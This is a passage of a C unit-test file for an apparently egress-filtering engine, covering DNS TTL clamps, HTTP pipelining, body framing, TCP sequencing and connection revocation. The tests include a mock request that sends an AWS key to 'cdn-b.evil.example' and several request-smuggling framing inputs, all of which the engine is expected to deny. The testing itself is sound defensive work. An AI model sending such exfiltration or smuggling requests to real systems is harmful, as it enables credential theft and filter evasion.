	struct dns_query q;

	assert_int_equal(h->cfg.bind_max_ttl, 3600); /* the default, SPEC.md */
	size_t n = build_query(msg, 7, "api.example.com", DNS_TYPE_A, 1);
	assert_int_equal(engine_dns_query(h->e, msg, n, &cl, 5353, &q, S), DNS_FORWARD);
	memcpy(ans, msg, n);
	put16(ans + 2, 0x8180);
	put16(ans + 6, 1);
	size_t o = n;
	put16(ans + o, 0xc00c);
	put16(ans + o + 2, DNS_TYPE_A);
	put16(ans + o + 4, 1);
	put32(ans + o + 6, 0x7fffffff); /* the longest TTL an answer can claim */
	put16(ans + o + 10, 4);
	memcpy(ans + o + 12, (uint8_t[]){198, 51, 100, 77}, 4);
	o += 16;
	engine_dns_answer(h->e, &q, ans, o, &cl, S);
	uint64_t end = S + 3600 * S + h->cfg.bind_grace_ns;
	assert_true(bind_has(h->b, &bound, "api.example.com", end - 1));
	assert_false(bind_has(h->b, &bound, "api.example.com", end + 1));
	teardown_h(h);

	h = setup_with(tweak_max_ttl);
	struct dns_addr a[1] = {{A("198.51.100.78"), 86400}};
	struct addr bound2 = A("198.51.100.78");
	engine_resolved(h->e, "api.example.com", a, 1, S);
	end = S + 600 * S + h->cfg.bind_grace_ns;
	assert_true(bind_has(h->b, &bound2, "api.example.com", end - 1));
	assert_false(bind_has(h->b, &bound2, "api.example.com", end + 1));
	/* a shorter TTL is kept */
	struct dns_addr c[1] = {{A("198.51.100.79"), 30}};
	engine_resolved(h->e, "api.example.com", c, 1, 2 * S);
	end = 2 * S + 30 * S + h->cfg.bind_grace_ns;
	assert_true(bind_has(h->b, &c[0].addr, "api.example.com", end - 1));
	assert_false(bind_has(h->b, &c[0].addr, "api.example.com", end + 1));
	teardown_h(h);
}

/* ---- plain HTTP: every request head of a connection (issue 9, class 7) ---- */

#define WWW_GET "GET /a HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
#define EVIL_GET "GET /b HTTP/1.1\r\nHost: cdn-b.evil.example\r\n\r\n"

/* A connection on sport whose first request to www.example.com is allowed: INSPECT. */
static size_t http_open(struct h *h, const char *cl, const char *sv, uint16_t sport, uint64_t now)
{
	syn(h, cl, sv, sport, 80, now);
	uint64_t a = seg(h, cl, sv, sport, 80, 0, WWW_GET, strlen(WWW_GET), now);
	assert_one_verdict(h, a, VERDICT_INSPECT);
	assert_int_equal(last_ev(h)->kind, EVENT_ALLOW);
	return strlen(WWW_GET);
}

static void assert_http_deny(const struct h *h, uint64_t pkt, enum reason r, const char *detail)
{
	assert_one_verdict(h, pkt, VERDICT_DENY);
	assert_int_equal(last_ev(h)->kind, EVENT_DENY);
	assert_int_equal(last_ev(h)->reason, r);
	if (detail)
		assert_string_equal(last_ev(h)->detail, detail);
}

static void test_http_keepalive(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.80";
	bind_name(h, "www.example.com", sv);
	uint64_t t = 10 * S;

	/* keep-alive: a second allowed request passes, a third with another Host is denied */
	size_t off = http_open(h, cl, sv, 41000, t);
	uint64_t a = seg(h, cl, sv, 41000, 80, off, WWW_GET, strlen(WWW_GET), t + 1);
	assert_one_verdict(h, a, VERDICT_INSPECT);
	off += strlen(WWW_GET);
	const char *leak = "GET /b HTTP/1.1\r\nHost: cdn-b.evil.example\r\n"
	                   "X-K: aws_access_key_id=AKIAIOSFODNN7EXAMPLE\r\n\r\n";
	uint64_t b = seg(h, cl, sv, 41000, 80, off, leak, strlen(leak), t + 2);
	assert_http_deny(h, b, REASON_NAME_NOT_ALLOWED, NULL);
	assert_string_equal(last_ev(h)->name, "cdn-b.evil.example");
	assert_int_equal(last_ev(h)->src, NAME_SOURCE_HTTP_HOST);
	assert_true(last_ev(h)->bits & IND_CREDENTIAL); /* the refused head was scanned */
	/* the connection stays denied */
	uint64_t c = seg(h, cl, sv, 41000, 80, off, WWW_GET, strlen(WWW_GET), t + 3);
	assert_one_verdict(h, c, VERDICT_DENY);

	/* pipelined in one segment with the first: the whole connection is denied */
	t += 2 * S;
	syn(h, cl, sv, 41001, 80, t);
	uint8_t two[256];
	memcpy(two, WWW_GET, strlen(WWW_GET));
	memcpy(two + strlen(WWW_GET), EVIL_GET, strlen(EVIL_GET));
	uint64_t d = seg(h, cl, sv, 41001, 80, 0, two, strlen(WWW_GET) + strlen(EVIL_GET), t);
	assert_http_deny(h, d, REASON_NAME_NOT_ALLOWED, NULL);
	assert_string_equal(last_ev(h)->name, "cdn-b.evil.example");

	/* pipelined after an allowed first request: several heads in one segment */
	t += 2 * S;
	off = http_open(h, cl, sv, 41002, t);
	uint8_t three[512];
	size_t n = 0;
	for (int i = 0; i < 2; i++) {
		memcpy(three + n, WWW_GET, strlen(WWW_GET));
		n += strlen(WWW_GET);
	}
	memcpy(three + n, EVIL_GET, strlen(EVIL_GET));
	uint64_t e = seg(h, cl, sv, 41002, 80, off, three, n + strlen(EVIL_GET), t + 1);
	assert_http_deny(h, e, REASON_NAME_NOT_ALLOWED, NULL);

	/* a head split across segments: its start passes, the segment that ends it is judged */
	t += 2 * S;
	off = http_open(h, cl, sv, 41003, t);
	uint64_t f1 = seg(h, cl, sv, 41003, 80, off, EVIL_GET, 20, t + 1);
	assert_one_verdict(h, f1, VERDICT_INSPECT);
	uint64_t f2 = seg(h, cl, sv, 41003, 80, off + 20, EVIL_GET + 20, strlen(EVIL_GET) - 20, t + 2);
	assert_http_deny(h, f2, REASON_NAME_NOT_ALLOWED, NULL);
	/* ... and one byte at a time, an allowed one */
	t += 2 * S;
	off = http_open(h, cl, sv, 41004, t);
	for (size_t i = 0; i < strlen(WWW_GET); i++) {
		uint64_t x = seg(h, cl, sv, 41004, 80, off + i, WWW_GET + i, 1, t + 1);
		assert_one_verdict(h, x, VERDICT_INSPECT);
	}
	teardown_h(h);
}

static void test_http_bodies(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.80";
	bind_name(h, "www.example.com", sv);
	uint64_t t = 10 * S;

	/* a Content-Length body that looks like a request head is body */
	size_t off = http_open(h, cl, sv, 42000, t);
	char post[256];
	int pn = snprintf(post, sizeof post,
	                  "POST /u HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: %zu\r\n\r\n%s",
	                  strlen(EVIL_GET), EVIL_GET);
	uint64_t a = seg(h, cl, sv, 42000, 80, off, post, (size_t)pn, t + 1);
	assert_one_verdict(h, a, VERDICT_INSPECT);
	off += (size_t)pn;
	/* then the next head is read where the body ends */
	uint64_t b = seg(h, cl, sv, 42000, 80, off, EVIL_GET, strlen(EVIL_GET), t + 2);
	assert_http_deny(h, b, REASON_NAME_NOT_ALLOWED, NULL);

	/* chunked: the chunks are skipped, the head after them is read */
	t += 2 * S;
	off = http_open(h, cl, sv, 42001, t);
	const char *ch = "POST /c HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n"
	                 "\r\n5\r\nhello\r\n20\r\nGET / HTTP/1.1\r\nHost: x.evil\r\n\r\n\r\n0\r\n\r\n";
	uint64_t c = seg(h, cl, sv, 42001, 80, off, ch, strlen(ch), t + 1);
	assert_one_verdict(h, c, VERDICT_INSPECT);
	off += strlen(ch);
	uint64_t d = seg(h, cl, sv, 42001, 80, off, EVIL_GET, strlen(EVIL_GET), t + 2);
	assert_http_deny(h, d, REASON_NAME_NOT_ALLOWED, NULL);

	/* framing two readers could disagree on: CL and TE; TE in HTTP/1.0; bad chunks */
	static const char *const bad[][2] = {
	    {"POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 3\r\n"
	     "Transfer-Encoding: chunked\r\n\r\n",
	     "cl_and_te"},
	    {"POST / HTTP/1.0\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n\r\n",
	     "bad_transfer_encoding"},
	    {"POST / HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 3\r\n"
	     "Content-Length: 30\r\n\r\n",
	     "bad_content_length"},
	    {"POST / HTTP/1.1\r\nHost: www.example.com\r\nTransfer-Encoding: chunked\r\n\r\n"
	     "5\r\nhelloXX",
	     "bad_chunk"},
	    {"GET / HTTP/1.1\r\nHost: www.example.com\r\nUpgrade: h2c\r\n\r\n", "upgrade"},
	    {"CONNECT www.example.com:80 HTTP/1.1\r\nHost: www.example.com\r\n\r\n", "connect"},
	    {"GET / HTTP/1.1\nHost: www.example.com\r\n\r\n", "bad_request_line"},
	};
	for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
		t += 2 * S;
		off = http_open(h, cl, sv, (uint16_t)(42100 + i), t);
		uint64_t x =
		    seg(h, cl, sv, (uint16_t)(42100 + i), 80, off, bad[i][0], strlen(bad[i][0]), t + 1);
		assert_one_verdict(h, x, VERDICT_DENY);
		assert_string_equal(last_ev(h)->detail, bad[i][1]);
	}

	/* a huge body is counted, not held */
	t += 2 * S;
	off = http_open(h, cl, sv, 42002, t);
	const char *big = "PUT /f HTTP/1.1\r\nHost: www.example.com\r\nContent-Length: 1000000000\r\n\r\n";
	uint64_t e = seg(h, cl, sv, 42002, 80, off, big, strlen(big), t + 1);
	assert_one_verdict(h, e, VERDICT_INSPECT);
	off += strlen(big);
	uint8_t junk[3000];
	memset(junk, 'G', sizeof junk);
	for (int i = 0; i < 40; i++) {
		uint64_t x = seg(h, cl, sv, 42002, 80, off, junk, sizeof junk, t + 2);
		assert_one_verdict(h, x, VERDICT_INSPECT);
		off += sizeof junk;
	}
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.held_bytes, 0);
	assert_int_equal(st.held_packets, 0);
	/* a retransmission of old body bytes, older than the ring, passes (body only) */
	uint64_t r = seg(h, cl, sv, 42002, 80, off - 10 * sizeof junk, junk, sizeof junk, t + 3);
	assert_one_verdict(h, r, VERDICT_INSPECT);
	teardown_h(h);
}

static void test_http_sequence(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	const char *cl = "192.0.2.1", *sv = "198.51.100.80";
	bind_name(h, "www.example.com", sv);
	uint64_t t = 10 * S;

	/* retransmissions: identical bytes pass, other bytes deny */
	size_t off = http_open(h, cl, sv, 43000, t);
	uint64_t a = seg(h, cl, sv, 43000, 80, off, WWW_GET, strlen(WWW_GET), t + 1);
	assert_one_verdict(h, a, VERDICT_INSPECT);
	uint64_t b = seg(h, cl, sv, 43000, 80, off, WWW_GET, strlen(WWW_GET), t + 2);
	assert_one_verdict(h, b, VERDICT_INSPECT);
	uint64_t b0 = seg(h, cl, sv, 43000, 80, 0, WWW_GET, 10, t + 2); /* the first head, in part */
	assert_one_verdict(h, b0, VERDICT_INSPECT);
	uint64_t c = seg(h, cl, sv, 43000, 80, off, EVIL_GET, strlen(EVIL_GET), t + 3);
	assert_http_deny(h, c, REASON_MALFORMED, "retransmit_mismatch");

	/* a segment that is partly old and partly new: the old part must match */
	t += 2 * S;
	off = http_open(h, cl, sv, 43001, t);
	uint8_t mix[128];
	memcpy(mix, WWW_GET + strlen(WWW_GET) - 4, 4);
	memcpy(mix + 4, WWW_GET, strlen(WWW_GET));
	uint64_t d = seg(h, cl, sv, 43001, 80, off - 4, mix, 4 + strlen(WWW_GET), t + 1);
	assert_one_verdict(h, d, VERDICT_INSPECT);
	off += strlen(WWW_GET);
	mix[0] = 'X';
	uint64_t d2 = seg(h, cl, sv, 43001, 80, off - 4, mix, 4 + strlen(WWW_GET), t + 2);
	assert_http_deny(h, d2, REASON_MALFORMED, "retransmit_mismatch");

	/* ahead of the stream: dropped, not read; in order afterwards it is */
	t += 2 * S;
	off = http_open(h, cl, sv, 43002, t);
	uint64_t e = seg(h, cl, sv, 43002, 80, off + 5, WWW_GET + 5, strlen(WWW_GET) - 5, t + 1);
	assert_one_verdict(h, e, VERDICT_DROP);
	uint64_t e2 = seg(h, cl, sv, 43002, 80, off, WWW_GET, strlen(WWW_GET), t + 2);
	assert_one_verdict(h, e2, VERDICT_INSPECT);

	/* heads older than the ring cannot be sent again */
	t += 2 * S;
	off = http_open(h, cl, sv, 43003, t);
	size_t first = off;
	for (int i = 0; i < 120; i++) {
		uint64_t x = seg(h, cl, sv, 43003, 80, off, WWW_GET, strlen(WWW_GET), t + 1);
		assert_one_verdict(h, x, VERDICT_INSPECT);
		off += strlen(WWW_GET);
	}
	uint64_t g = seg(h, cl, sv, 43003, 80, first, WWW_GET, strlen(WWW_GET), t + 2);
	assert_http_deny(h, g, REASON_MALFORMED, "retransmit_too_old");

	/* urgent data, data without ACK */
	t += 2 * S;
	off = http_open(h, cl, sv, 43004, t);
	uint8_t pkt[256];
	size_t n = build_tcp(pkt, cl, sv, 43004, 80, ISN + 1 + (uint32_t)off, ACK | 0x20, WWW_GET,
	                     strlen(WWW_GET));
	uint64_t u = feed(h, pkt, n, t + 1);
	assert_http_deny(h, u, REASON_MALFORMED, "tcp_urgent");
	t += 2 * S;
	off = http_open(h, cl, sv, 43005, t);
	n = build_tcp(pkt, cl, sv, 43005, 80, ISN + 1 + (uint32_t)off, PSH, WWW_GET,
	              strlen(WWW_GET));
	uint64_t w = feed(h, pkt, n, t + 1);
	assert_http_deny(h, w, REASON_MALFORMED, "data_without_ack");

	/* bare ACKs pass; the connection outlives the decided linger while idle, and
	 * is forgotten soon after the client's FIN */
	t += 2 * S;
	off = http_open(h, cl, sv, 43006, t);
	n = build_tcp(pkt, cl, sv, 43006, 80, ISN + 1 + (uint32_t)off, ACK, NULL, 0);
	assert_one_verdict(h, feed(h, pkt, n, t + 1), VERDICT_INSPECT);
	engine_tick(h->e, t + 60 * S);
	uint64_t k = seg(h, cl, sv, 43006, 80, off, WWW_GET, strlen(WWW_GET), t + 60 * S);
	assert_one_verdict(h, k, VERDICT_INSPECT);
	off += strlen(WWW_GET);
	n = build_tcp(pkt, cl, sv, 43006, 80, ISN + 1 + (uint32_t)off, ACK | 0x01, NULL, 0);
	assert_one_verdict(h, feed(h, pkt, n, t + 61 * S), VERDICT_INSPECT);
	engine_tick(h->e, t + 80 * S);
	uint64_t z = seg(h, cl, sv, 43006, 80, off, WWW_GET, strlen(WWW_GET), t + 80 * S);
	assert_one_verdict(h, z, VERDICT_DENY); /* no flow: no_syn */
	assert_string_equal(last_ev(h)->detail, "no_syn");

	/* IPv6 */
	const char *cl6 = "2001:db8::1", *sv6 = "2001:db8:2::80";
	bind_name(h, "www.example.com", sv6);
	t += 100 * S;
	off = http_open(h, cl6, sv6, 43007, t);
	uint64_t v1 = seg(h, cl6, sv6, 43007, 80, off, WWW_GET, strlen(WWW_GET), t + 1);
	assert_one_verdict(h, v1, VERDICT_INSPECT);
	off += strlen(WWW_GET);
	uint64_t v2 = seg(h, cl6, sv6, 43007, 80, off, EVIL_GET, strlen(EVIL_GET), t + 2);
	assert_http_deny(h, v2, REASON_NAME_NOT_ALLOWED, NULL);
	/* a later Host that is allowed but not bound to this address */
	t += 2 * S;
	off = http_open(h, cl6, sv6, 43008, t);
	const char *api = "GET / HTTP/1.1\r\nHost: other.example.com\r\n\r\n";
	uint64_t v3 = seg(h, cl6, sv6, 43008, 80, off, api, strlen(api), t + 1);
	assert_http_deny(h, v3, REASON_PORT_NOT_ALLOWED, NULL);
	teardown_h(h);
}

/* ---- issue 9, class 11: revoke on reload ---- */

struct cuts {
	struct engine_conn c[8];
	unsigned n;
};

static void on_cut(void *arg, const struct engine_conn *c)
{
	struct cuts *x = arg;
	assert_true(x->n < 8);
	x->c[x->n++] = *c;
}

static struct engine_conn conn_of(const char *src, uint16_t sport, const char *dst, uint16_t dport,
                                  uint16_t zone)
{
	struct engine_conn c = {.proto = 6, .src = A(src), .dst = A(dst), .sport = sport,
	                        .dport = dport, .zone = zone};
	return c;
}

/* A TLS flow from 192.0.2.1:sport to dst:443 naming sni, allowed. */
static void allowed_tls(struct h *h, uint16_t sport, const char *dst, const char *sni)
{
	uint64_t s = syn(h, "192.0.2.1", dst, sport, 443, 1);
	assert_int_equal(h->vlast[s], VERDICT_PASS);
	uint8_t hello[2048];
	size_t n = build_hello(hello, sni, false, 0, 1);
	uint64_t a = seg(h, "192.0.2.1", dst, sport, 443, 0, hello, n, 1);
	assert_one_verdict(h, a, VERDICT_ALLOW);
}

static struct policy *policy_github_only(void)
{
	struct policy_builder *b = policy_builder_new();
	assert_int_equal(
	    policy_builder_add_name(b, "github.com", false, P443, 1, "n.list", 1, "github.com"), 0);
	struct policy *p = policy_builder_finish(b);
	assert_non_null(p);
	return p;
}

static void swap_policy(struct h *h, struct policy *np)
{
	engine_set_policy(h->e, np, &h->cfg);
	policy_free(h->p);
	h->p = np;
}

static void test_revoke(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	bind_name(h, "api.example.com", "198.51.100.10");
	bind_name(h, "github.com", "198.51.100.30");
	allowed_tls(h, 1, "198.51.100.10", "api.example.com");
	allowed_tls(h, 2, "198.51.100.30", "github.com");
	uint64_t r = syn(h, "192.0.2.1", "203.0.113.5", 3, 443, 1); /* range, line 5 */
	assert_one_verdict(h, r, VERDICT_ALLOW);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.conns_recorded, 3);

	swap_policy(h, policy_github_only());
	unsigned nev = h->nev;
	struct engine_conn conns[] = {
	    conn_of("192.0.2.1", 1, "198.51.100.10", 443, 7), /* api: removed */
	    conn_of("192.0.2.1", 2, "198.51.100.30", 443, 0), /* github: kept */
	    conn_of("192.0.2.1", 3, "203.0.113.5", 443, 0),   /* range removed, no binding */
	    /* unknown to the engine: bound only to a name no longer allowed */
	    conn_of("192.0.2.9", 4, "198.51.100.10", 443, 0),
	    /* unknown, no binding, a name entry on 443: kept (its name cannot be known) */
	    conn_of("192.0.2.9", 5, "198.51.100.77", 443, 0),
	    /* unknown, no entry allows port 22 at all */
	    conn_of("192.0.2.9", 6, "198.51.100.77", 22, 0),
	};
	struct cuts x = {0};
	size_t n = engine_revoke(h->e, conns, 6, true, on_cut, &x, 2 * S);
	assert_int_equal(n, 4);
	assert_int_equal(x.n, 4);
	assert_int_equal(x.c[0].sport, 1);
	assert_int_equal(x.c[0].zone, 7); /* passed back as given */
	assert_int_equal(x.c[1].sport, 3);
	assert_int_equal(x.c[2].sport, 4);
	assert_int_equal(x.c[3].sport, 6);
	assert_int_equal(h->nev, nev + 4);
	const struct evrec *ev = &h->ev[nev];
	assert_int_equal(ev->kind, EVENT_DENY);
	assert_int_equal(ev->reason, REASON_REVOKED);
	assert_string_equal(ev->name, "api.example.com");
	assert_int_equal(ev->src, NAME_SOURCE_SNI);
	assert_true(ev->enforced);
	assert_int_equal(ev->count, 1);
	assert_string_equal(h->ev[nev + 1].name, "");
	/* The revoked flow's next packet reaching the queue (same incarnation, within
	 * the re-issue window that would have allowed it): denied. */
	uint64_t late = seg(h, "192.0.2.1", "198.51.100.10", 1, 443, 600, "more", 4, 3 * S);
	assert_one_verdict(h, late, VERDICT_DENY);
	uint64_t ok = seg(h, "192.0.2.1", "198.51.100.30", 2, 443, 600, "more", 4, 3 * S);
	assert_one_verdict(h, ok, VERDICT_ALLOW);
	/* Records: the cut ones are gone, the kept one stays. */
	engine_stats(h->e, &st);
	assert_int_equal(st.conns_recorded, 1);
	/* conntrack no longer lists github's: its record is forgotten. */
	engine_conns_sync(h->e, NULL, 0);
	engine_stats(h->e, &st);
	assert_int_equal(st.conns_recorded, 0);
	teardown_h(h);
}

/* The conntrack list could not be read: the engine's records are judged and cut (zone 0). */
static void test_revoke_incomplete(void **state)
{
	(void)state;
	struct h *h = setup_with(NULL);
	bind_name(h, "api.example.com", "198.51.100.10");
	bind_name(h, "github.com", "198.51.100.30");
	allowed_tls(h, 1, "198.51.100.10", "api.example.com");
	allowed_tls(h, 2, "198.51.100.30", "github.com");
	swap_policy(h, policy_github_only());
	struct cuts x = {0};
	assert_int_equal(engine_revoke(h->e, NULL, 0, false, on_cut, &x, 2 * S), 1);
	assert_int_equal(x.n, 1);
	assert_int_equal(x.c[0].sport, 1);
	assert_int_equal(x.c[0].zone, 0);
	assert_int_equal(last_ev(h)->reason, REASON_REVOKED);
	/* A complete list without them: gone, nothing cut, records forgotten. */
	x.n = 0;
	assert_int_equal(engine_revoke(h->e, NULL, 0, true, on_cut, &x, 2 * S), 0);
	assert_int_equal(x.n, 0);
	struct engine_stats st;
	engine_stats(h->e, &st);
	assert_int_equal(st.conns_recorded, 0);
	teardown_h(h);
}

static void test_revoke_audit(void **state)
{
	(void)state;
	struct h *h = setup_with(audit_tweak);
	bind_name(h, "api.example.com", "198.51.100.10");
	allowed_tls(h, 1, "198.51.100.10", "api.example.com");
	swap_policy(h, policy_github_only());
	struct engine_conn conns[] = {
	    conn_of("192.0.2.1", 1, "198.51.100.10", 443, 0),
	    conn_of("192.0.2.9", 4, "198.51.100.10", 443, 0), /* unknown: not judged in audit */
	};
	struct cuts x = {0};
	unsigned nev = h->nev;
	assert_int_equal(engine_revoke(h->e, conns, 2, true, on_cut, &x, 2 * S), 1);
	assert_int_equal(x.n, 0); /* audit cuts nothing */
	assert_int_equal(h->nev, nev + 1);
	assert_int_equal(last_ev(h)->reason, REASON_REVOKED);
	assert_false(last_ev(h)->enforced);
	uint64_t late = seg(h, "192.0.2.1", "198.51.100.10", 1, 443, 600, "more", 4, 3 * S);
	assert_one_verdict(h, late, VERDICT_ALLOW);
	/* logged once: the next reload says nothing more about it */
	assert_int_equal(engine_revoke(h->e, conns, 2, true, on_cut, &x, 4 * S), 0);
	assert_int_equal(h->nev, nev + 1);
	teardown_h(h);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_incarnation_ct_new),
	    cmocka_unit_test(test_syn_range_and_repeats),
	    cmocka_unit_test(test_incarnation_tcp),
	    cmocka_unit_test(test_incarnation_reissue_bounds),
	    cmocka_unit_test(test_incarnation_udp),
	    cmocka_unit_test(test_isn_rewind),
	    cmocka_unit_test(test_tcp_flags_undecided),
	    cmocka_unit_test(test_tcp_checksum),
	    cmocka_unit_test(test_acked_in_kernel),
	    cmocka_unit_test(test_incarnation_quic),
	    cmocka_unit_test(test_syn_ip_not_allowed),
	    cmocka_unit_test(test_tls_split_out_of_order),
	    cmocka_unit_test(test_tls_ipv6_and_wildcard),
	    cmocka_unit_test(test_tls_denials),
	    cmocka_unit_test(test_ech_outer),
	    cmocka_unit_test(test_dns_ech_modes),
	    cmocka_unit_test(test_typosquat_imitates),
	    cmocka_unit_test(test_overlap_conflict),
	    cmocka_unit_test(test_tls_malformed),
	    cmocka_unit_test(test_http),
	    cmocka_unit_test(test_other_protocols),
	    cmocka_unit_test(test_packet_level),
	    cmocka_unit_test(test_udp),
	    cmocka_unit_test(test_quic_inspect_garbage),
	    cmocka_unit_test(test_quic_inspect_sni),
	    cmocka_unit_test(test_engine_reset),
	    cmocka_unit_test(test_quic_split_allowed),
	    cmocka_unit_test(test_quic_split_denied),
	    cmocka_unit_test(test_quic_split_dcid_and_timeout),
	    cmocka_unit_test(test_hold_bounds),
	    cmocka_unit_test(test_one_byte_segments_allowed),
	    cmocka_unit_test(test_tfo),
	    cmocka_unit_test(test_verify_mode),
	    cmocka_unit_test(test_audit),
	    cmocka_unit_test(test_drop_partial),
	    cmocka_unit_test(test_audit_timeout),
	    cmocka_unit_test(test_hold_bytes_total),
	    cmocka_unit_test(test_aggregation_and_beacon),
	    cmocka_unit_test(test_aggregation_keeps_credentials),
	    cmocka_unit_test(test_metadata_addresses),
	    cmocka_unit_test(test_metadata_guard),
	    cmocka_unit_test(test_aggregation_times),
	    cmocka_unit_test(test_table_full),
	    cmocka_unit_test(test_dns_guard),
	    cmocka_unit_test(test_set_policy),
	    cmocka_unit_test(test_max_ttl_clamp),
	    cmocka_unit_test(test_http_keepalive),
	    cmocka_unit_test(test_http_bodies),
	    cmocka_unit_test(test_http_sequence),
	    cmocka_unit_test(test_revoke),
	    cmocka_unit_test(test_revoke_incomplete),
	    cmocka_unit_test(test_revoke_audit),
	};
	return cmocka_run_group_tests_name("engine", tests, NULL, NULL);
}
